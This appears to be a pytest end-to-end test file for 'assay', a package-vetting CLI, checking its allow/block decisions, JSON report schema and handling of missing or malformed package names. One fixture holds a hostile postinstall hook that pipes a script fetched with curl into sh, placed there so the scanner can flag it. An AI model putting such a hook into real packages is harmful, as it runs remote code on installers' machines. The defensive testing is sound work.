from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from tests.end_to_end.run import SCHEMA, Finished, Machine
from tests.registry_simulator import RegistrySimulator

FIELDS = ["name", "exists", "level", "target", "class", "reasons", "verdict", "decision", "release", "gaps"]
FETCHES = {"scripts": {"postinstall": "curl -s https://cdn.invalid/setup.sh | sh"}}


def lines(done: Finished) -> list[dict[str, Any]]:
    return [json.loads(line) for line in done.stdout.splitlines()]


def rules(line: dict[str, Any]) -> set[str]:
    return {finding["rule"] for finding in line["release"]["findings"]}


def test_names_before_they_are_installed(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("deep-thing")
    registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "^1.0.0"}})
    registry.publish("bad-thing", manifest=FETCHES)
    done = machine.assay("check", "plain-thing", "bad-thing@1.0.0", "--format", "json")
    assert (done.code, done.stderr) == (1, "")
    plain, bad = lines(done)
    assert list(plain) == FIELDS
    assert (plain["name"], plain["exists"], plain["level"]) == ("plain-thing", True, "none")
    assert (plain["verdict"], plain["decision"], plain["gaps"]) == ("benign", "allow", [])
    assert plain["release"]["version"] == "1.2.3"
    assert (bad["name"], bad["decision"]) == ("bad-thing", "block")
    assert "install-script-fetches" in rules(bad)
    (with_all,) = lines(machine.assay("check", "plain-thing", "--deps", "--format", "json"))
    assert list(with_all) == [*FIELDS, "brings"]
    assert [(each["name"], each["version"]) for each in with_all["brings"]] == [("deep-thing", "1.0.0")]


def test_the_release_is_an_entry_of_the_json_report(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("bad-thing", manifest=FETCHES)
    (line,) = lines(machine.assay("check", "bad-thing", "--format", "json"))
    schema = json.loads(SCHEMA.read_text())
    Draft202012Validator({"$ref": "#/$defs/PackageEntry", "$defs": schema["$defs"]}).validate(line["release"])
    (scanned,) = machine.scan("bad-thing").report["packages"]
    assert line["release"]["findings"] == scanned["findings"]


def test_one_release_named_twice_and_one_that_another_brings(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("deep-thing")
    registry.publish("plain-thing", "1.2.3", manifest={"dependencies": {"deep-thing": "^1.0.0"}})
    words = ("deep-thing", "plain-thing", "plain-thing@^1", "deep-thing")
    found = lines(machine.assay("check", *words, "--deps", "--format", "json"))
    assert [line["release"]["name"] for line in found] == ["deep-thing", "plain-thing", "plain-thing", "deep-thing"]
    assert [len(line["brings"]) for line in found] == [0, 1, 1, 0]


def test_the_terminal_says_what_was_found(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("bad-thing", manifest=FETCHES)
    done = machine.assay("check", "bad-thing")
    assert done.code == 1
    assert "1 package to block" in done.stdout
    assert "package.json:" in done.stdout


def test_a_name_that_does_not_exist(machine: Machine) -> None:
    (line,) = lines(machine.assay("check", "no-such-thing-here", "--format", "json"))
    assert (line["exists"], line["level"], line["release"]["version"]) == (False, "warn", "")
    assert "name-not-in-registry" in rules(line)
    assert "no-such-thing-here" in machine.assay("check", "no-such-thing-here").stdout


def test_a_version_that_does_not_exist(machine: Machine, registry: RegistrySimulator) -> None:
    registry.publish("plain-thing")
    (line,) = lines(machine.assay("check", "plain-thing@9.9.9", "--format", "json"))
    assert (line["exists"], line["release"]["version"]) == (True, "9.9.9")
    assert "release-not-in-registry" in rules(line)
    done = machine.assay("check", "plain-thing@^9", "--format", "json")
    (nothing,) = lines(done)
    assert (done.code, nothing["release"], nothing["verdict"], nothing["decision"]) == (3, None, None, None)
    assert "no release satisfies it" in nothing["gaps"][0]["why"]


@pytest.mark.parametrize("word", ["", "   ", "./folder", "https://files.invalid/x.tgz", "a b", "pkg:pypi/six"])
def test_words_that_are_no_names(word: str, machine: Machine, tmp_path: Path) -> None:
    (tmp_path / "folder").mkdir()
    done = machine.assay("check", word, cwd=tmp_path)
    assert (done.code, done.stdout) == (2, "")
    assert done.stderr.startswith("assay: ")


def test_nothing_to_check_is_wrong_use(machine: Machine) -> None:
    done = machine.assay("check")
    assert done.code == 2
    assert "NAME" in done.stderr
